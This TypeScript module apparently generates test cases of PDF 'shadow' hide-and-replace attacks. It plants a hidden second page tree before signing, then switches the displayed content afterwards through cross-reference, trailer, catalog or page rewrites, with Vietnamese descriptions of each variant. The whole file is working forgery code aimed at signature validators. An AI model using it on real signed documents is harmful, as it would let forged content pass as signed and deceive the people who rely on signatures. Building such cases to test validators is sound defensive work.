import { openPdf, type PdfFile } from '../pdf/file.ts';
import { array, dict, isStream, name, type PdfDict, ref, withEntries } from '../pdf/values.ts';
import {
  append,
  contentNumber,
  crossReference,
  dictOf,
  firstPage,
  forgedOperators,
  forgedResources,
  itemsOf,
  refOf,
  rootOf,
} from './forge.ts';
import { offsetOf, plant, type ShadowAttack } from './shadow-attacks.ts';

type Spring = ShadowAttack['spring'];

function pagesNumber(file: PdfFile): number {
  return refOf(rootOf(file).dict.entries.get('Pages'));
}

/** A second catalog and page tree that nothing refers to. */
function plantTree(pdf: Uint8Array): ReturnType<ShadowAttack['prepare']> {
  return plant(pdf, (revision, file) => {
    const [catalog, pages, page, content] = [revision.allot(), revision.allot(), revision.allot(), revision.allot()];
    revision.setStream(content, dict({}), forgedOperators('FZ'));
    revision.set(
      page,
      dict({
        Type: name('Page'),
        Parent: ref(pages),
        MediaBox: array(0, 0, 595, 842),
        Resources: forgedResources(revision, 'FZ'),
        Contents: ref(content),
        Annots: array(...itemsOf(file, firstPage(file).dict.entries.get('Annots'))),
      }),
    );
    revision.set(pages, dict({ Type: name('Pages'), Kids: array(ref(page)), Count: 1 }));
    revision.set(catalog, withEntries(rootOf(file).dict, { Pages: ref(pages) }));
    return [catalog, pages, page, content];
  });
}

/** The same, and one save of the file that showed it before the signer saw another: its objects can be pointed to again. */
function hidden(pdf: Uint8Array): ReturnType<ShadowAttack['prepare']> {
  const first = plantTree(pdf);
  const good = openPdf(first.pdf);
  const [, pages = 0, page = 0] = first.planted;
  const shown = append(first.pdf, (revision, file) => {
    const root = rootOf(file);
    revision.set(root.number, withEntries(root.dict, { Pages: ref(pages) }));
    revision.set(pagesNumber(file), dict({ Type: name('Pages'), Kids: array(ref(page)), Count: 1 }));
    revision.setStream(contentNumber(file), dict({}), forgedOperators('FZ'));
  });
  const numbers = [rootOf(good).number, pagesNumber(good), contentNumber(good)];
  const restored = append(shown, (revision) => {
    for (const number of numbers) {
      const value = good.object(number);
      if (isStream(value)) {
        revision.setStream(number, value.dict, value.raw);
      } else {
        revision.set(number, value);
      }
    }
  });
  return { pdf: restored, planted: [...first.planted, ...numbers.map((number) => offsetOf(shown, number))] };
}

function current(file: PdfFile, number: number): PdfDict {
  return dictOf(file.object(number));
}

function switched(variant: string, text: string, spring: Spring): ShadowAttack {
  return {
    family: 'shadow_hide_and_replace',
    variant,
    text: `Cây trang thứ hai nằm sẵn trong tệp lúc ký mà không ai thấy; ${text}.`,
    prepare: hidden,
    spring,
  };
}

export const HIDE_AND_REPLACE: ShadowAttack[] = [
  switched(
    'root-by-xref',
    'sau đó chỉ bằng bảng tham chiếu trỏ danh mục gốc về lần lưu có nó',
    (pdf, [, , , , offset = 0]) => crossReference(pdf, [{ number: rootOf(openPdf(pdf)).number, offset }]),
  ),
  switched('root-by-trailer', 'sau đó trailer mới chọn danh mục gốc khác', (pdf, [catalog = 0]) =>
    crossReference(pdf, [], { Root: ref(catalog) }),
  ),
  switched(
    'pages-by-xref',
    'sau đó chỉ bằng bảng tham chiếu trỏ cây trang về lần lưu có nó',
    (pdf, [, , , , , offset = 0]) => crossReference(pdf, [{ number: pagesNumber(openPdf(pdf)), offset }]),
  ),
  switched('pages-by-catalog', 'sau đó danh mục gốc được ghi lại với cây trang kia', (pdf, [, pages = 0]) =>
    append(pdf, (revision, file) => {
      const root = rootOf(file);
      revision.set(root.number, withEntries(root.dict, { Pages: ref(pages) }));
    }),
  ),
  switched(
    'content-by-xref',
    'sau đó chỉ bằng bảng tham chiếu trỏ nội dung trang về lần lưu có nó',
    (pdf, [, , , , , , offset = 0]) => crossReference(pdf, [{ number: contentNumber(openPdf(pdf)), offset }]),
  ),
  switched('page-swapped', 'sau đó trang đầu được ghi lại theo trang kia', (pdf, [, , page = 0]) =>
    append(pdf, (revision, file) => {
      const first = firstPage(file);
      const parent = first.dict.entries.get('Parent') ?? null;
      revision.set(first.number, withEntries(current(file, page), { Parent: parent }));
    }),
  ),
];
